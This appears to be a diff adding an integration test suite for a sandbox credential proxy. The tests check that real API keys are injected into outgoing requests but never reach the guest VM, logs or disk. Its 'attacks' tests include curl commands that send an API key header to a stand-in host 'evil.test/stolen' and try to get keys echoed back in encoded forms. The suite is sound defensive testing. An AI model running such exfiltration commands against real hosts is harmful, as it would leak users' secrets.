@@ -1,0 +1,339 @@
+"""Credentials that never enter the sandbox: real clients in a real VM, real servers on loopback (tests/lab/credlab.py).
+
+The canaries are set with `sbx secret`; the servers say what arrived; and at the end everything that the guest is (memory, disk,
+environments) and everything that sbx writes down is searched for them.
+"""
+import base64
+import json
+import os
+import pathlib
+import re
+import secrets
+import shlex
+import subprocess
+import sys
+import time
+
+import pytest
+
+from installation import TREE, private
+
+sys.path.insert(0, str(TREE / "tests" / "lab"))
+import credlab  # noqa: E402
+
+SLOW = 600  # dockerd under software emulation
+CANARIES = {
+    "anthropic": "sk-ant-api03-" + secrets.token_hex(24),
+    "openai": "sk-proj-" + secrets.token_hex(24),
+    "github": "gho_" + secrets.token_hex(18),
+    "groq": "gsk_" + secrets.token_hex(24),
+    "lab-api": "lab-" + secrets.token_hex(20),
+    "lab-git": "lg-" + secrets.token_hex(20),
+    "lab-registry": "reg:" + secrets.token_hex(16),
+}
+# What a server must have got, by name of the host.
+SLOTS = {
+    "api.anthropic.com": ("x-api-key", CANARIES["anthropic"]),
+    "api.openai.com": ("authorization", "Bearer " + CANARIES["openai"]),
+    "api.github.com": ("authorization", "Bearer " + CANARIES["github"]),
+    "api.groq.com": ("authorization", "Bearer " + CANARIES["groq"]),
+    "api.test": ("x-secret", "key=" + CANARIES["lab-api"]),
+}
+GIT_USER = "x-access-token"
+
+
+@pytest.fixture(scope="module")
+def lab(tmp_path_factory):
+    with credlab.Lab(tmp_path_factory.mktemp("lab")) as made:
+        made.server = made.origin()
+        made.evil = made.origin()
+        made.gits = made.git(CANARIES["github"], GIT_USER)
+        user, _, password = CANARIES["lab-registry"].partition(":")
+        made.images = made.registry(user, password)
+        yield made
+
+
+@pytest.fixture(scope="module")
+def env(lab):
+    with private(policy="none") as made:
+        ports = {**dict.fromkeys(SLOTS, lab.server.port), "evil.test": lab.evil.port, "github.com": lab.gits.port, "registry.test": lab.images.port,
+                 "plain.test": lab.server.port}
+        made.sbx("settings", "set", "network.connect-to", ",".join(f"{name}:443=127.0.0.1:{port}" for name, port in ports.items()))
+        made.sbx("settings", "set", "network.extra-ca", lab.ca.pem)
+        made.sbx("policy", "set-default", "deny-all")
+        made.sbx("policy", "reset", "--yes", check=False)
+        made.sbx("policy", "set-default", "balanced")
+        made.sbx("policy", "allow", "network", ",".join(ports))
+        for name in ("anthropic", "openai", "github", "groq"):
+            made.sbx("secret", "set", name, input=CANARIES[name])
+        made.sbx("secret", "set-custom", "--host", "api.test", "--header", "x-secret", "--format", "key=%s", "--env", "LAB_KEY", "lab-api",
+                 input=CANARIES["lab-api"])
+        basic = base64.b64encode(CANARIES["lab-registry"].encode()).decode()
+        made.sbx("secret", "set-custom", "--host", "registry.test", "--header", "authorization", "--format", "Basic %s", "lab-registry", input=basic)
+        yield made
+
+
+@pytest.fixture(scope="module")
+def box(env, lab):
+    folder = env.make_folder("cred")
+    made = env.create("cred", folder, memory="1536m")
+    made.folder = folder
+    (folder / "lab.pem").write_bytes(lab.ca.pem.read_bytes())
+    yield made
+    made.rm()
+
+
+def client(box, script, user="agent", timeout=120):
+    return box.guest(script, user=user, timeout=timeout)
+
+
+def got(lab, path, host="api.anthropic.com", n=1):
+    """The request that came: with the right credential once, and nothing of the guest's own."""
+    request = lab.server.wait(path, n)[-1]
+    name, want = SLOTS[host]
+    assert lab.server.header(request, name) == [want], request
+    assert "proxy-managed" not in json.dumps(request) and "proxymanaged" not in json.dumps(request), request
+    return request
+
+
+# what the guest sees
+
+def test_the_guest_has_sentinels_and_says_who_it_is(box):
+    env = client(box, "env")
+    for name in ("ANTHROPIC_API_KEY", "OPENAI_API_KEY", "GH_TOKEN", "GROQ_API_KEY", "LAB_KEY"):
+        value = re.search(rf"^{name}=(.*)$", env, re.M)
+        assert value and re.search("proxy-?managed", value[1]), (name, value)
+    for canary in CANARIES.values():
+        assert canary not in env
+
+
+CLIENTS = {
+    "curl-h1": "curl -sS --http1.1 -m 60 -H \"x-api-key: $ANTHROPIC_API_KEY\" https://api.anthropic.com/PATH",
+    "curl-h2": "curl -sS --http2 -m 60 -H \"x-api-key: $ANTHROPIC_API_KEY\" https://api.anthropic.com/PATH",
+    "curl-transparent": "env -u https_proxy -u HTTPS_PROXY curl -sS -m 60 https://api.anthropic.com/PATH",
+    "python-urllib": "python3 -c 'import urllib.request as u,os; print(u.urlopen(u.Request(\"https://api.anthropic.com/PATH\", "
+                     "headers={\"x-api-key\": os.environ[\"ANTHROPIC_API_KEY\"]}), timeout=60).read())'",
+    "python-requests": "python3 -c 'import requests; print(requests.get(\"https://api.anthropic.com/PATH\", timeout=60).text)'",
+    "node-fetch": "node -e 'fetch(\"https://api.anthropic.com/PATH\", {headers: {\"x-api-key\": process.env.ANTHROPIC_API_KEY}})"
+                  ".then(r => r.text()).then(console.log)'",
+    "node-https": "node -e 'require(\"https\").get(\"https://api.anthropic.com/PATH\", r => r.pipe(process.stdout))'",
+}
+
+
+@pytest.mark.parametrize("name", CLIENTS)
+def test_a_client_is_authenticated(box, lab, name):
+    out = client(box, CLIENTS[name].replace("PATH", name))
+    assert '"ok":true' in out.replace("\\", ""), out
+    request = got(lab, "/" + name)
+    if name == "curl-h2":
+        assert request["version"] == "2.0"
+
+
+@pytest.mark.parametrize("host", [h for h in SLOTS if h != "api.anthropic.com"])
+def test_each_service_has_its_slot(box, lab, host):
+    client(box, f"curl -sS -m 60 https://{host}/slot-{host}")
+    got(lab, f"/slot-{host}", host)
+
+
+def test_git_clones_and_pushes(box, lab):
+    lab.gits.make("a.git")
+    out = client(box, "set -e; cd /tmp; rm -rf a; git clone -q https://github.com/a.git a 2>&1; cd a; git config user.email a@b; git config user.name a; "
+                      "echo hello > f; git add f; git commit -q -m one; git push -q origin HEAD:main 2>&1; rm -rf /tmp/b; git clone -q -b main "
+                      "https://github.com/a.git /tmp/b; cat /tmp/b/f")
+    assert out.endswith("hello"), out
+    assert set(lab.gits.users) <= {"", lab.gits.want}, lab.gits.users
+
+
+def test_a_websocket_is_authenticated(box, lab):
+    script = r"""
+import base64, os, socket, ssl
+s = ssl.create_default_context().wrap_socket(socket.create_connection(("api.test", 443), 60), server_hostname="api.test")
+s.sendall(b"GET /ws HTTP/1.1\r\nHost: api.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
+          b"Sec-WebSocket-Key: " + base64.b64encode(os.urandom(16)) + b"\r\n\r\n")
+head = b""
+while b"\r\n\r\n" not in head:
+    head += s.recv(1)
+assert b" 101 " in head, head
+for i in range(20):
+    s.sendall(bytes([0x81, 0x85]) + b"abcd" + bytes(c ^ k for c, k in zip(b"hello", b"abcda")))
+    frame = b""
+    while len(frame) < 7:
+        frame += s.recv(7 - len(frame))
+    assert frame == b"\x81\x05hello", frame
+print("echoed")
+"""
+    (box.folder / "ws.py").write_text(script)
+    assert client(box, f"env -u https_proxy -u HTTPS_PROXY python3 {shlex.quote(str(box.folder))}/ws.py").endswith("echoed")
+    got(lab, "/ws", "api.test")
+
+
+def test_a_stream_of_events_is_not_held_up(box, lab):
+    script = ("python3 -u -c 'import time,urllib.request as u; r=u.urlopen(\"https://api.anthropic.com/sse?n=6&ms=1000\", timeout=60); "
+              "t=[time.time() for c in iter(lambda: r.read1(1), b\"\")]; print(max(b-a for a,b in zip(t,t[1:])))'")
+    gap = float(client(box, script))
+    assert gap <= 1.1, f"{gap} s between two bytes"
+
+
+def test_a_body_is_streamed_both_ways(box, lab):
+    n = 64 << 20
+    out = client(box, f"head -c {n} /dev/zero | curl -sS -m 300 -T - https://api.anthropic.com/up; curl -sS -m 300 "
+                      f"'https://api.anthropic.com/download?n={n}' | wc -c", timeout=700)
+    assert out.split()[-1] == str(n), out[-300:]
+    assert got(lab, "/up")["length"] == n
+
+
+# attacks
+
+def test_a_foreign_key_does_not_leave(box, lab):
+    for header in ("x-api-key: sk-ant-thief", "X-API-KEY: thief", "authorization: Bearer thief"):
+        out = client(box, f"curl -sS -m 60 -w '%{{http_code}}' -H '{header}' https://api.anthropic.com/foreign")
+        assert out.endswith("403") and "credential" in out, out
+    assert not [r for r in lab.server.requests if r["path"] == "/foreign"]
+
+
+def test_a_redirect_takes_no_credential_along(box, lab):
+    client(box, "curl -sS -m 60 -L --cacert /etc/ssl/certs/ca-certificates.crt -H \"x-api-key: $ANTHROPIC_API_KEY\" "
+                f"--cacert {shlex.quote(str(box.folder))}/lab.pem 'https://api.anthropic.com/redirect?to=https://evil.test/stolen'; true")
+    client(box, f"curl -sS -m 60 --cacert {shlex.quote(str(box.folder))}/lab.pem -H \"x-api-key: $ANTHROPIC_API_KEY\" https://evil.test/stolen")
+    for request in lab.evil.wait("/stolen"):
+        assert not any(canary in json.dumps(request) for canary in CANARIES.values()), request
+
+
+@pytest.mark.parametrize("how", ["plain", "base64", "base64a", "base64b", "base64url", "hex", "HEX", "percent", "percentsome", "json", "html", "htmlhex",
+                                 "utf16", "twice", "split", "header", "trailer", "gzip", "deflate", "br", "zstd", "redirect"])
+def test_a_reflection_is_removed(box, lab, how):
+    done = box.exec("curl", "-sS", "-i", "-m", "60", "--compressed", f"https://api.anthropic.com/reflect/{how}", user="agent", binary=True, timeout=120)
+    said, canary = done.stdout, CANARIES["anthropic"].encode()
+    got(lab, f"/reflect/{how}")
+    for form in (canary, canary.hex().encode(), canary.hex().upper().encode(), base64.b64encode(canary)[:-4], base64.b64encode(b"u:" + canary)[4:-4],
+                 base64.b64encode(b"x" + canary)[4:-4], canary.decode().encode("utf-16le"), "".join(f"%{b:02x}" for b in canary).encode(),
+                 "".join(f"&#{b};" for b in canary).encode(), "".join(f"\\u00{b:02x}" for b in canary).encode()):
+        assert form not in said, said[:600]
+    assert b"*" in said, said[:600]
+
+
+def test_plain_http_to_its_host_is_refused(box):
+    out = client(box, "curl -sS -m 60 -w '%{http_code}' http://api.anthropic.com/plain")
+    assert out.endswith("403") and "https" in out, out
+
+
+def test_another_host_is_not_opened(box, lab):
+    """No credential, no interception: the guest sees the server's own certificate."""
+    out = client(box, f"curl -sS -m 60 --cacert {shlex.quote(str(box.folder))}/lab.pem https://plain.test/through")
+    assert '"ok":true' in out
+    out = client(box, "curl -sS -m 60 https://plain.test/through 2>&1; true")
+    assert "certificate" in out
+
+
+# containers
+
+@pytest.fixture(scope="module")
+def docker(box, lab):
+    from test_network import container_image
+    container_image(box.folder / "image.tar", "lab:1")
+    box.guest(f"docker load -q -i {shlex.quote(str(box.folder))}/image.tar", timeout=SLOW)
+    return box
+
+
+def test_a_container_is_authenticated(docker, lab):
+    out = docker.guest("docker run --rm -v /usr:/usr:ro -v /etc/ssl:/etc/ssl:ro lab:1 curl -sS -m 60 https://api.anthropic.com/container", timeout=SLOW)
+    assert '"ok":true' in out
+    got(lab, "/container")
+
+
+def test_docker_pushes_and_pulls_with_a_credential(docker, lab):
+    docker.guest("docker tag lab:1 registry.test/lab:1 && docker push -q registry.test/lab:1 && docker rmi registry.test/lab:1 && "
+                 "docker pull -q registry.test/lab:1", timeout=SLOW)
+
+
+# a change reaches running sandboxes at once
+
+def test_a_new_value_counts_at_once_and_a_removed_one_no_more(env, box, lab):
+    new = "gsk_" + secrets.token_hex(24)
+    env.sbx("secret", "set", "-f", "groq", input=new)
+    client(box, "curl -sS -m 60 https://api.groq.com/renewed")
+    assert lab.server.header(lab.server.wait("/renewed")[0], "authorization") == ["Bearer " + new]
+    env.sbx("secret", "rm", "-f", "groq")
+    client(box, f"curl -sS -m 60 --cacert {shlex.quote(str(box.folder))}/lab.pem https://api.groq.com/removed")
+    assert lab.server.header(lab.server.wait("/removed")[0], "authorization") == []
+    CANARIES["groq-2"] = new
+    env.sbx("secret", "set", "groq", input=CANARIES["groq"])
+
+
+def test_it_works_after_a_restart_and_after_kills(env, box, lab):
+    box.stop()
+    client(box, "curl -sS -m 60 https://api.anthropic.com/restarted", timeout=200)
+    got(lab, "/restarted")
+    for victim in ("edge", "egress"):
+        os.kill(box.pids()[victim], 9)
+        time.sleep(1)
+        client(box, f"curl -sS -m 60 --retry 5 --retry-all-errors https://api.anthropic.com/after-{victim}")
+        got(lab, f"/after-{victim}")
+    subprocess.run(["pkill", "-KILL", "-P", str(box.pids()["keeper"]), "sbx-origin"], check=False)
+    client(box, "curl -sS -m 60 --retry 5 --retry-all-errors https://api.anthropic.com/after-origin")
+    got(lab, "/after-origin")
+    os.kill(env.daemon_pid(), 9)
+    client(box, "curl -sS -m 60 https://api.anthropic.com/after-sbxd")
+    got(lab, "/after-sbxd")
+
+
+# nothing is left anywhere
+
+def spellings(value):
+    raw = value.encode()
+    return [raw, raw.hex().encode(), base64.b64encode(raw)[:-4]]
+
+
+def find(data, canaries):
+    return [name for name, value in canaries.items() if any(form in data for form in spellings(value))]
+
+
+def memory(pid):
+    """All memory of a process, in pieces that overlap."""
+    with open(f"/proc/{pid}/maps", encoding="ascii") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
+        for line in maps:
+            span, mode = line.split()[:2]
+            start, end = (int(x, 16) for x in span.split("-"))
+            if "r" not in mode or "[vvar" in line or "[vsyscall" in line:
+                continue
+            at = start
+            while at < end:
+                try:
+                    mem.seek(at)
+                    yield mem.read(min(1 << 24, end - at))
+                except (OSError, ValueError, OverflowError):
+                    pass
+                at += (1 << 24) - 4096 if end - at > 1 << 24 else end - at
+
+
+def search_guest(box, canaries):
+    """Names of canaries in qemu's memory, which has all of the guest's, in its disks, and in every environment."""
+    found = set()
+    box.guest("sync")
+    for piece in memory(box.pids()["qemu"]):
+        found.update(find(piece, canaries))
+    for disk in box.state.glob("*.qcow2"):
+        tail = b""
+        with open(disk, "rb") as f:
+            while piece := f.read(1 << 24):
+                found.update(find(tail + piece, canaries))
+                tail = piece[-4096:]
+    found.update(find(box.guest("cat /proc/*/environ | base64 -w0", timeout=120).encode(), canaries))
+    environ = base64.b64decode(box.guest("cat /proc/*/environ 2>/dev/null | base64 -w0"))
+    found.update(find(environ, canaries))
+    return found
+
+
+def test_no_canary_is_anywhere(env, box, lab):
+    assert search_guest(box, CANARIES) == set()
+    for path in [*env.state.rglob("*"), *env.runtime.rglob("*")]:
+        if path.is_file() and path.suffix != ".qcow2":
+            assert not find(path.read_bytes(), CANARIES), path
+    for args in (("secret", "ls", "--json"), ("inspect", "cred"), ("audit", "show", "cred"), ("policy", "log", "--json"), ("diagnose",)):
+        assert not find(env.sbx(*args, check=False).stdout.encode(), CANARIES), args
+
+
+def test_the_search_finds_one_that_is_put_there(box):
+    planted = {"planted": "planted-" + secrets.token_hex(24)}
+    box.exec("sh", "-c", "cat > /home/agent/planted; sync", user="agent", input=planted["planted"])
+    assert search_guest(box, planted) == {"planted"}
